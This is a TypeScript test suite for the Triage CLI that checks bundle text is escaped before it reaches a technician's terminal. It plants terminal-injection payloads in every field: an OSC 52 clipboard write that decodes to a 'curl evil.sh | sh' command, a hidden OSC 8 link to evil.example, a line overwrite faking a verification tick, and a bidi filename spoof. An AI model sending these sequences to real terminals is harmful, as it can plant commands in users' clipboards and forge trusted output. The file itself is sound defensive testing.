/**
 * Terminal injection: a bundle comes from a machine we do not control, and `triage inspect`,
 * `diff` and `verify` print its text to a technician's terminal. Escape sequences planted in every
 * kind of field (clear screen, OSC 52 clipboard, OSC 8 hidden link, a carriage return that
 * overwrites the line with a fake "✓", C1 CSI, bidi overrides, a lone surrogate, NUL, a forged new
 * line) must reach the human output visibly escaped and never as controls; `--json` stays exact.
 */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { bundleFiles } from '../../../main/bundle/contents';
import { prepareBundle } from '../../../main/bundle/prepare';
import { runDiff, runInspect, runVerify } from '../../../main/cli/bundle-commands';
import { formatFinding, printFindings } from '../../../main/cli/summary';
import { CONTINUATION, line, terminalSafe, trusted } from '../../../main/cli/terminal-safe';
import type { Report } from '../../../main/report';
import { patch, validFiles, zip } from '../../support/hostile-bundles';
import { sampleReport } from '../../support/sample-report';
import { capture } from '../../support/cli-io';

const CLEAR = '\x1b[2J\x1b[H';
const OSC52 = '\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07';
const OSC8 = '\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\';
const OVERWRITE = '\r✓ Verified: all hashes match';
const C1_CSI = '\u009b31m';
const RLO = '\u202egnp.exe';
const ISOLATES = '\u2066x\u2069';
const LONE = '\ud800';
const NUL = '\u0000';
const FAKE_LINE = '\n✓ Verified';
/** Everything at once, planted in each field. */
const HOSTILE = `[${CLEAR}${OSC52}${OSC8}${OVERWRITE}${C1_CSI}${RLO}${ISOLATES}${LONE}${NUL}${FAKE_LINE}]`;
const planted = (field: string): string => `${field}${HOSTILE}`;

/** No raw control (tab and newline are the output's own), C1 control, bidi control or lone surrogate. */
// eslint-disable-next-line no-control-regex -- finding controls is the point
const C0 = /[\x00-\x08\x0b-\x1f\x7f]/;
const C1 = /[\u0080-\u009f]/;
const BIDI = /[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
const INVISIBLE = /[\u200b-\u200d\u2028\u2029\ufeff]/;
const LONE_SURROGATE = /[\ud800-\udfff]/u;

function expectTerminalSafe(text: string): void {
  expect(text).not.toMatch(C0);
  expect(text).not.toMatch(C1);
  expect(text).not.toMatch(BIDI);
  expect(text).not.toMatch(INVISIBLE);
  expect(text).not.toMatch(LONE_SURROGATE);
  // A field cannot forge a line of Triage's own, such as a "✓ Verified" or a fake "OK".
  for (const row of text.split('\n')) expect(row).not.toMatch(/^\s*✓/);
}

/** The planted text, as it must appear: every piece visible. */
function expectVisiblyEscaped(text: string, field: string): void {
  expect(text).toContain(`${field}[\\x1b[2J\\x1b[H`);
  expect(text).toContain('\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07');
  // ESC \ ends OSC 8; the backslash before "click" needs no doubling, the one before \x0d does.
  expect(text).toContain('\\x1b]8;;https://evil.example\\x1b\\click\\x1b]8;;\\x1b\\\\');
  expect(text).toContain('\\x0d✓ Verified: all hashes match');
  expect(text).toContain('\\x9b31m\\u202egnp.exe\\u2066x\\u2069\\ud800\\x00');
}

async function run(
  command: typeof runInspect,
  args: string[],
): Promise<{ code: number; out: string; err: string }> {
  const c = capture();
  const code = await command(args, c.io);
  return { code, out: c.out(), err: c.err() };
}

const HOSTILE_FILE = planted('probes/evil.json');

async function writeBundle(path: string, report: Report, extraListedFile?: string): Promise<void> {
  const files = bundleFiles(prepareBundle(report, [], { level: 'off' }));
  if (extraListedFile !== undefined) {
    // manifest.json is not hashed itself: a bundle can list any file name there.
    const manifest = JSON.parse(files.get('manifest.json')?.toString('utf8') ?? '{}') as {
      files: Record<string, { sha256: string; bytes: number }>;
    };
    manifest.files[extraListedFile] = { sha256: '0'.repeat(64), bytes: 1 };
    files.set('manifest.json', Buffer.from(JSON.stringify(manifest)));
  }
  writeFileSync(path, await zip([...files].map(([name, content]) => ({ name, content }))));
}

let dir: string;
let clean: string;
let hostile: string;
let unreadable: string;
let hostileReport: Report;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'triage-injection-'));
  const base = await sampleReport('linux');
  const finding = base.findings.find((f) => f.severity !== 'ok') ?? base.findings[0];
  if (!finding) throw new Error('the sample report has no findings');
  hostileReport = {
    ...base,
    host: {
      ...base.host,
      hostname: planted('host'),
      osName: planted('os'),
      user: planted('user'),
    },
    problem: {
      category: 'cant-connect',
      description: planted('description'),
      contact: { name: planted('contact'), email: 'jo@example.com', phone: '1' },
    },
    run: {
      ...base.run,
      probes: base.run.probes.map((p) => {
        if (p.id === 'hardware.cpu' && p.data) return { ...p, data: { ...p.data, model: planted('cpu') } };
        if (p.id === 'os.updates')
          return {
            ...p,
            status: 'error' as const,
            data: null,
            error: { code: 'command-failed' as const, message: planted('error') },
          };
        return p;
      }),
    },
    findings: [
      ...base.findings,
      {
        ...finding,
        id: 'hardware.planted',
        severity: 'critical',
        params: { volume: planted('param') },
        title: planted('title'),
        explanation: planted('explanation'),
        userSteps: [planted('step')],
      },
    ],
  };
  clean = join(dir, 'clean.zip');
  hostile = join(dir, 'hostile.zip');
  unreadable = join(dir, 'unreadable.zip');
  await writeBundle(clean, base);
  await writeBundle(hostile, hostileReport, HOSTILE_FILE);
  // An entry name the reader refuses and quotes in its error message.
  writeFileSync(
    unreadable,
    patch(
      await zip([...validFiles(), { name: 'probes/os.infoXjson', content: '{}' }]),
      'probes/os.infoXjson',
      'probes/os.info\x1bjson',
    ),
  );
});

describe('terminalSafe', () => {
  it('escapes every control, bidi override, invisible format character and lone surrogate', () => {
    expect(terminalSafe(HOSTILE)).toBe(
      '[\\x1b[2J\\x1b[H\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x1b]8;;https://evil.example\\x1b\\click\\x1b]8;;\\x1b\\\\' +
        '\\x0d✓ Verified: all hashes match\\x9b31m\\u202egnp.exe\\u2066x\\u2069\\ud800\\x00\\x0a✓ Verified]',
    );
    for (let code = 0; code < 0xa0; code += 1) {
      if (code === 0x09 || (code >= 0x20 && code < 0x7f)) continue;
      expect(terminalSafe(String.fromCharCode(code))).toBe(`\\x${code.toString(16).padStart(2, '0')}`);
    }
    for (const char of [
      '\u061c',
      '\u200b',
      '\u200c',
      '\u200d',
      '\u200e',
      '\u200f',
      '\u2028',
      '\u2029',
      '\u202a',
      '\u202b',
      '\u202c',
      '\u202d',
      '\u202e',
      '\u2066',
      '\u2067',
      '\u2068',
      '\u2069',
      '\ufeff',
      '\udc00',
    ])
      expect(terminalSafe(char)).toBe(`\\u${(char.codePointAt(0) ?? 0).toString(16).padStart(4, '0')}`);
    expect(terminalSafe('\u{e0041}')).toBe('\\u{e0041}');
    expectTerminalSafe(terminalSafe(HOSTILE));
  });

  it('leaves ordinary text alone: umlauts, emoji, CJK, Arabic, tabs, Windows paths', () => {
    const ordinary = [
      'Größe: Müller, Straße',
      'Drucker 🖨️ geht nicht 😀👍🏽',
      '打印机无法连接 プリンター 프린터',
      'الطابعة لا تعمل',
      'name\tvalue\tunit',
      'C:\\Program Files\\Triage',
    ];
    for (const text of ordinary) expect(terminalSafe(text)).toBe(text);
    expect(terminalSafe('a surrogate pair 𝄞 is a character')).toBe('a surrogate pair 𝄞 is a character');
  });

  it('keeps a literal backslash unambiguous: doubled only before \\, x, u or an escaped character', () => {
    expect(terminalSafe('C:\\Users\\xavier')).toBe('C:\\Users\\\\xavier');
    expect(terminalSafe('\\x1b')).toBe('\\\\x1b');
    expect(terminalSafe('\\\x1b')).toBe('\\\\\\x1b');
    expect(terminalSafe('\\\\server')).toBe('\\\\\\server');
    expect(terminalSafe('end\\')).toBe('end\\');
  });

  it('keeps line breaks only in multi-line mode, each continuation line marked', () => {
    expect(terminalSafe('one\ntwo')).toBe('one\\x0atwo');
    expect(terminalSafe('one\ntwo\r\nthree\rfour', { multiline: true })).toBe(
      `one\n${CONTINUATION}two\n${CONTINUATION}three\\x0dfour`,
    );
    expect(terminalSafe('a\n✓ b', { multiline: true, indent: '    ' })).toBe('a\n    ✓ b');
    expectTerminalSafe(terminalSafe(HOSTILE, { multiline: true }));
  });

  it('escapes the values of a `line`, not its fixed parts or trusted text', () => {
    expect(line`${'\x1b[31m'} is ${3} ${trusted('\x1b[1mbold\x1b[22m')}`).toBe(
      '\\x1b[31m is 3 \x1b[1mbold\x1b[22m',
    );
  });

  it('takes linear time on 10 MB of hostile and of ordinary text', () => {
    const big = HOSTILE.repeat(Math.ceil((10 * 1024 * 1024) / HOSTILE.length));
    const safe = terminalSafe(big);
    expect(safe.length).toBeGreaterThan(big.length);
    expect(safe).not.toMatch(C0);
    const backslashes = '\\'.repeat(10 * 1024 * 1024);
    expect(terminalSafe(backslashes)).toBe('\\'.repeat(2 * 10 * 1024 * 1024 - 1));
    const plain = 'ä'.repeat(10 * 1024 * 1024);
    expect(terminalSafe(plain, { multiline: true })).toBe(plain);
  });
});

describe('triage inspect on a hostile bundle', () => {
  it('shows every planted field escaped and writes no control to the terminal', async () => {
    const { code, out, err } = await run(runInspect, [hostile]);
    // The planted manifest entry names a missing file: shown anyway, after a (safe) warning.
    expect(code, err).toBe(1);
    expectTerminalSafe(err);
    expect(err).toMatch(/WARNING: .* does not verify/);
    expectTerminalSafe(out);
    for (const field of ['host', 'os', 'user', 'description', 'cpu', 'title', 'explanation', 'step', 'error'])
      expectVisiblyEscaped(out, field);
    // The description keeps its line break, the continuation marked as the user's text.
    expect(out).toContain(`\\x00\n${CONTINUATION}✓ Verified]`);
    // A one-line field shows the line break escaped.
    expect(out).toContain(`host${terminalSafe(HOSTILE)}`);
  });

  it('keeps --json exact, and safe on a terminal too (C1 and bidi characters written as escapes)', async () => {
    const { code, out } = await run(runInspect, [hostile, '--json']);
    expect(code).toBe(1);
    expect(out).not.toMatch(/[\u0080-\u009f\u202a-\u202e\u2066-\u2069]/);
    const json = JSON.parse(out) as {
      problem: { description: string; contact: { name: string } };
      facts: { label: string; value: string }[];
      findings: { title: string; explanation: string; userSteps: string[] }[];
      failedProbes: { error: { message: string } }[];
    };
    expect(json.problem.description).toBe(planted('description'));
    expect(json.problem.contact.name).toBe(planted('contact'));
    expect(json.facts.find((f) => f.label === 'Computer')?.value).toBe(planted('host'));
    expect(json.facts.find((f) => f.label === 'Processor')?.value).toContain(planted('cpu'));
    expect(json.findings.find((f) => f.title === planted('title'))).toMatchObject({
      explanation: planted('explanation'),
      userSteps: [planted('step')],
    });
    expect(json.failedProbes[0]?.error.message).toBe(planted('error'));
  });

  it('escapes an entry name quoted in the error for a bundle it cannot read', async () => {
    const { code, err } = await run(runInspect, [unreadable]);
    expect(code).toBe(3);
    expect(err).toContain('probes/os.info\\x1bjson');
    expectTerminalSafe(err);
  });
});

describe('findings and summaries for a terminal', () => {
  it('escape bundle text before Triage wraps it in its own colours', () => {
    const finding = hostileReport.findings.find((f) => f.id === 'hardware.planted');
    if (!finding) throw new Error('no planted finding');
    const text = formatFinding(finding, true);
    // Only Triage's own colour codes (SGR) remain; the planted ones are visible text.
    // eslint-disable-next-line no-control-regex -- the SGR codes Triage emits itself
    const withoutColour = text.replace(/\x1b\[[0-9;]*m/g, '');
    expectTerminalSafe(withoutColour);
    expectVisiblyEscaped(withoutColour, 'title');
    expectVisiblyEscaped(withoutColour, 'explanation');
  });

  it('`triage collect`s summary escapes what the machine reported', () => {
    const out: string[] = [];
    printFindings(hostileReport, { write: (t: string) => out.push(t) } as unknown as NodeJS.WriteStream);
    expectTerminalSafe(out.join(''));
    expectVisiblyEscaped(out.join(''), 'host');
  });
});

describe('triage diff with a hostile bundle', () => {
  it('shows hostnames, findings and changed facts escaped', async () => {
    const { code, out, err } = await run(runDiff, [clean, hostile]);
    expect(code, err).toBe(1);
    expectTerminalSafe(err);
    expectTerminalSafe(out);
    for (const field of ['host', 'title', 'cpu']) expectVisiblyEscaped(out, field);
  });

  it('keeps --json exact', async () => {
    const { out } = await run(runDiff, [clean, hostile, '--json']);
    const json = JSON.parse(out) as {
      after: { hostname: string };
      appeared: { title: string }[];
      facts: { probe: string; path: string; after: unknown }[];
    };
    expect(json.after.hostname).toBe(planted('host'));
    expect(json.appeared.map((f) => f.title)).toContain(planted('title'));
    expect(json.facts.find((f) => f.probe === 'hardware.cpu' && f.path === 'model')?.after).toBe(
      planted('cpu'),
    );
  });
});

describe('triage verify on a hostile bundle', () => {
  it('shows a file name from the manifest escaped in its problems', async () => {
    const { code, out } = await run(runVerify, [hostile]);
    expect(code).toBe(1);
    expect(out).toMatch(/NOT OK/);
    expectTerminalSafe(out);
    expectVisiblyEscaped(out, 'probes/evil.json');
  });

  it('escapes an entry name quoted in the error for a bundle it cannot read', async () => {
    const { code, out } = await run(runVerify, [unreadable]);
    expect(code).toBe(1);
    expect(out).toContain('probes/os.info\\x1bjson');
    expectTerminalSafe(out);
  });

  it('keeps --json exact', async () => {
    const { out } = await run(runVerify, [hostile, '--json']);
    const json = JSON.parse(out) as { problems: string[] };
    expect(json.problems).toContain(`${HOSTILE_FILE} is listed in the manifest but missing from the bundle.`);
    const broken = JSON.parse((await run(runVerify, [unreadable, '--json'])).out) as { problems: string[] };
    expect(broken.problems[0]).toContain('probes/os.info\x1bjson');
  });
});
